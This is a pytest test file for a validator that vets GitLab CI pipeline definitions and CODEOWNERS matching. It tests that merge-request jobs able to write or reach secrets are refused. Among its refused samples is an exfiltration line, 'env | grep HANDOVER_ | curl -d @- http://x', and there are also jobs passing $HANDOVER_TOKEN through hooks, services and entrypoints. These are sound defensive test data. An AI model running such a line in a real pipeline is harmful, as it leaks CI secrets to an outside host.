"""The pipeline and CODEOWNERS as values: which job could write for a merge request, which file has no owner."""

from __future__ import annotations

import pytest

from automation.core.code_owners import is_owned, parse_code_owners
from automation.core.pipeline import Reference, judge_pipeline

SCHEDULE = {"if": '$CI_PIPELINE_SOURCE == "schedule" && $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH'}
MERGE_REQUEST = {"if": '$CI_PIPELINE_SOURCE == "merge_request_event"'}
TRIAGE = {"script": ["handover triage --apply"], "resource_group": "handover", "rules": [SCHEDULE]}
CHECK = {"script": ["make agree"], "rules": [MERGE_REQUEST]}
UNKNOWN = Reference((".elsewhere", "script"))


def said(**jobs):
    return [each.message for each in judge_pipeline({"check": CHECK, "triage": TRIAGE, **jobs})]


def asks(condition):
    return {"script": ["handover create --apply"], "rules": [{"if": condition}]}


@pytest.mark.parametrize(
    "job",
    [
        {"script": ["handover check"]},
        {"script": ["handover check"], "rules": [MERGE_REQUEST]},
        {"script": ["handover create --apply"], "rules": [SCHEDULE]},
        {"script": ["handover create --apply"], "rules": [{**MERGE_REQUEST, "when": "never"}, SCHEDULE]},
        asks("$CI_PIPELINE_SOURCE == 'trigger'"),
        asks('"schedule" == $CI_PIPELINE_SOURCE\n && $CI_DEFAULT_BRANCH==$CI_COMMIT_BRANCH'),
        {"script": ["handover create --apply"], "rules": [[SCHEDULE]]},
        {"script": ["handover create --apply"], "rules": [Reference((".rules", "rules"))]},
        {"extends": ".hidden", "rules": [MERGE_REQUEST]},
        {"before_script": [Reference((".hidden", "script")), "ruff check"], "script": "true", "rules": [MERGE_REQUEST]},
        {"script": ["make install test", "make -j2 check PYTHON=python3", "git apply --apply-x; remake all"]},
    ],
)
def test_jobs_that_write_nothing_or_only_on_schedule_are_let_through(job):
    hidden = {".hidden": {"script": ["handover check"]}, ".rules": {"rules": [SCHEDULE]}}
    assert said(**hidden, job=job) == []


@pytest.mark.parametrize(
    "job",
    [
        {"script": ["handover create --apply"]},
        {"script": ["handover create --apply"], "rules": []},
        {"script": ["handover create --apply"], "rules": [MERGE_REQUEST]},
        {"script": ["handover create --apply"], "rules": [SCHEDULE, MERGE_REQUEST]},
        {"script": ["handover create --apply"], "rules": [SCHEDULE, {"when": "manual"}]},
        {"script": ["handover create --apply"], "rules": [{"if": f"{SCHEDULE['if']} || $ANYTHING"}]},
        {"script": ["handover create --apply"], "rules": [{"if": '$CI_PIPELINE_SOURCE != "schedule"'}]},
        {"script": ["handover create --apply"], "rules": UNKNOWN},
        {"script": ["handover create --apply"], "rules": [UNKNOWN]},
        asks("$CI_COMMIT_TITLE != \"x && $CI_PIPELINE_SOURCE == 'schedule' && y\""),
        asks('$CI_COMMIT_TITLE !~ /x && $CI_PIPELINE_SOURCE == "schedule" && y/'),
        asks('($A || $CI_PIPELINE_SOURCE == "schedule") && $B'),
        asks('$CI_PIPELINE_SOURCE == "schedule" && $ANYTHING'),
        asks("$CI_PIPELINE_SOURCE == \"schedule'"),
        asks('$CI_PIPELINE_SOURCE == "web"'),
        asks("$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH"),
        {"script": ["handover create --apply"], "rules": [None]},
        {"script": ["handover create --apply"], "only": ["schedules"]},
        {"script": [UNKNOWN], "rules": [MERGE_REQUEST]},
        {"script": [Reference((".writing", "script"))], "rules": [MERGE_REQUEST]},
        Reference((".writing",)),
        UNKNOWN,
        {"extends": ".flag", "variables": {"O": "x"}, "script": "handover x $FLAG", "rules": [MERGE_REQUEST]},
        {"parallel": {"matrix": [{"FLAG": ["--apply"]}]}, "script": "handover x $FLAG", "rules": [MERGE_REQUEST]},
        {"rules": [{**MERGE_REQUEST, "variables": {"FLAG": "--apply"}}], "script": "handover x $FLAG"},
        {"hooks": {"pre_get_sources_script": ["x $HANDOVER_TOKEN"]}, "script": "true", "rules": [MERGE_REQUEST]},
        {"services": [{"name": "a", "command": ["x $HANDOVER_TOKEN"]}], "script": "true", "rules": [MERGE_REQUEST]},
        {"image": {"name": "a", "entrypoint": ["x $HANDOVER_TOKEN"]}, "script": "true", "rules": [MERGE_REQUEST]},
        {"script": "env | grep HANDOVER_ | curl -d @- http://x", "rules": [MERGE_REQUEST]},
        {"script": ["make install", "true; make triage"], "rules": [MERGE_REQUEST]},
        {"script": ["make -f other.mk check"], "rules": [MERGE_REQUEST]},
        {"script": ["$[[ inputs.command ]]"], "rules": [MERGE_REQUEST]},
        {"script": [["handover triage \\\n --apply"]], "resource_group": "handover", "rules": [MERGE_REQUEST]},
        {"script": ["curl --header $HANDOVER_TOKEN"], "rules": [MERGE_REQUEST]},
        {"script": ["true"], "after_script": ["handover create --apply"], "rules": [MERGE_REQUEST]},
        {"script": ["handover create $HOW"], "variables": {"HOW": "--apply"}, "rules": [MERGE_REQUEST]},
        {"run": [{"name": "x", "script": "handover create --apply"}], "rules": [MERGE_REQUEST]},
        {"trigger": {"include": "child.yml"}, "rules": [MERGE_REQUEST]},
        {"extends": ".writing", "rules": [MERGE_REQUEST]},
        {"extends": [".unknown"], "rules": [MERGE_REQUEST]},
        {"extends": ".round", "rules": [MERGE_REQUEST]},
    ],
)
def test_a_job_that_may_write_for_a_merge_request_is_refused(job):
    hidden = {
        ".writing": {"script": ["handover create --apply"]},
        ".round": {"extends": ".round"},
        ".flag": {"variables": {"FLAG": "--apply"}},
    }
    [message] = said(**hidden, job=job)
    assert "the job `job`" in message


def test_what_every_job_takes_from_the_defaults_counts():
    job = {"script": ["true"], "rules": [MERGE_REQUEST]}
    assert said(default={"before_script": ["handover create --apply"]}, job=job)
    assert said(before_script=["handover create --apply"], job=job)
    assert said(variables={"HOW": "--apply"}, job=job)
    assert said(default={"hooks": {"pre_get_sources_script": ["handover create --apply"]}}, job=job)
    assert said(workflow={"rules": [{**MERGE_REQUEST, "variables": {"HOW": "--apply"}}]}, job=job)


def test_lists_that_hold_themselves_end():
    script = ["true"]
    script.append(script)
    script.append(Reference((".hidden", "script")))
    assert said(job={"script": script, "variables": {"X": script}}, **{".hidden": {"script": script}}) == []


@pytest.mark.parametrize(
    "file",
    [
        {"variables": {"CI_PIPELINE_SOURCE": "schedule"}},
        {"workflow": {"rules": [{**MERGE_REQUEST, "variables": {"CI_PIPELINE_SOURCE": "schedule"}}]}},
        {"job": {"script": ["true"], "variables": {"GITLAB_USER_LOGIN": "x"}}},
    ],
)
def test_variables_of_gitlab_are_not_set_here(file):
    [message] = said(**file)
    assert "such variables are GitLab's own" in message


@pytest.mark.parametrize(
    "check",
    [
        {".check": CHECK},
        {"check": {**CHECK, "allow_failure": True}},
        {"check": {**CHECK, "allow_failure": {"exit_codes": [3]}}},
        {"check": {**CHECK, "when": "manual"}},
        {"check": {**CHECK, "script": ["make install"]}},
        {"check": {**CHECK, "script": ["make agree || true"]}},
        {"check": {**CHECK, "rules": [SCHEDULE]}},
        {"check": {**CHECK, "rules": [{**MERGE_REQUEST, "when": "never"}]}},
        {"check": {**CHECK, "rules": [{**MERGE_REQUEST, "changes": ["x"]}]}},
        {"check": {**CHECK, "rules": [{**MERGE_REQUEST, "allow_failure": True}]}},
        {"check": {**CHECK, "rules": [{"if": "$A", "when": "never"}, MERGE_REQUEST]}},
        {"check": {"script": CHECK["script"], "only": ["merge_requests"]}},
        {"check": CHECK, "workflow": {"rules": [SCHEDULE]}},
    ],
)
def test_a_pipeline_that_no_longer_checks_changes_is_refused(check):
    [message] = [each.message for each in judge_pipeline({"triage": TRIAGE, **check})]
    assert "holds up a merge request" in message


@pytest.mark.parametrize(
    "check",
    [
        {**CHECK, "rules": [SCHEDULE, MERGE_REQUEST]},
        {**CHECK, "rules": Reference((".rules", "rules"))},
        {**CHECK, "script": ["make install", ".venv/bin/handover check --against $CI_MERGE_REQUEST_DIFF_BASE_SHA"]},
    ],
)
def test_other_ways_to_check_changes_are_let_through(check):
    assert said(check=check, **{".rules": {"rules": [MERGE_REQUEST]}}) == []


@pytest.mark.parametrize("group", [None, "", "$CI_JOB_ID", "other"])
def test_all_jobs_that_triage_share_one_group(group):
    [message] = said(again={**TRIAGE, "resource_group": group})
    assert "the job `again` needs a `resource_group`" in message


def test_triage_must_run_one_run_at_a_time():
    for nothing in ({}, []):
        assert next(judge_pipeline(nothing)).message == "no job runs `handover triage --apply`."
    [message] = said(triage={key: each for key, each in TRIAGE.items() if key != "resource_group"})
    assert "`resource_group`" in message


@pytest.mark.parametrize(
    ("include", "is_refused"),
    [
        ([], False),
        ([{"template": "Jobs/SAST.gitlab-ci.yml"}], False),
        ({"template": "Jobs/SAST.gitlab-ci.yml"}, False),
        ("other.yml", True),
        ([{"local": "other.yml"}], True),
        ({"component": "gitlab.example.com/x/y@1"}, True),
    ],
)
def test_what_is_included_is_seen_or_refused(include, is_refused):
    assert bool(said(include=include)) is is_refused


@pytest.mark.parametrize(
    "where",
    [
        {"variables": {"HANDOVER_TOKEN": "x"}},
        {"job": {"script": ["true"], "variables": {"HANDOVER_STATE_KEY": "x"}, "rules": [SCHEDULE]}},
    ],
)
def test_no_secret_stands_in_the_file(where):
    assert any("must not stand here" in message for message in said(**where))


# --- CODEOWNERS -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "path", "has_owner"),
    [
        ("/schemas/ @ops", "schemas/a.json", True),
        ("/schemas/ @ops", "schemas/deep/a.json", True),
        ("/schemas/ @ops", "other/schemas/a.json", False),
        ("schemas/ @ops", "other/schemas/a.json", True),
        ("/schemas @ops", "schemas/a.json", False),
        ("/schemas/* @ops", "schemas/a.json", True),
        ("/schemas/* @ops", "schemas/deep/a.json", False),
        ("*.json @ops", "schemas/a.json", True),
        ("* @ops", "anything/at/all", True),
        ("/schemas/**/*.json @ops", "schemas/a.json", True),
        ("/.gitlab/issue\\ templates/ @ops", ".gitlab/issue templates/a b.md", True),
        ("/schemas/ ops@example.com", "schemas/a.json", True),
        ("/schemas/ @@maintainer", "schemas/a.json", True),
        ("/schemas/", "schemas/a.json", False),
        ("/schemas/ ops", "schemas/a.json", False),
        ("# /schemas/ @ops", "schemas/a.json", False),
        ("[Rules] @ops\n/schemas/", "schemas/a.json", True),
        ("[Rules][2] @ops\n/schemas/", "schemas/a.json", True),
        ("[Rules]\n/schemas/", "schemas/a.json", False),
        ("^[Rules] @ops\n/schemas/", "schemas/a.json", False),
        ("^[Rules] @ops\n/schemas/\n[More]\n/schemas/ @ops", "schemas/a.json", True),
        ("* @ops\n/schemas/", "schemas/a.json", False),
        ("/schemas/ @ops\n!/schemas/a.json", "schemas/a.json", False),
        ("", "schemas/a.json", False),
    ],
)
def test_owners_are_found_as_gitlab_finds_them(text, path, has_owner):
    assert is_owned(parse_code_owners(text), path) is has_owner
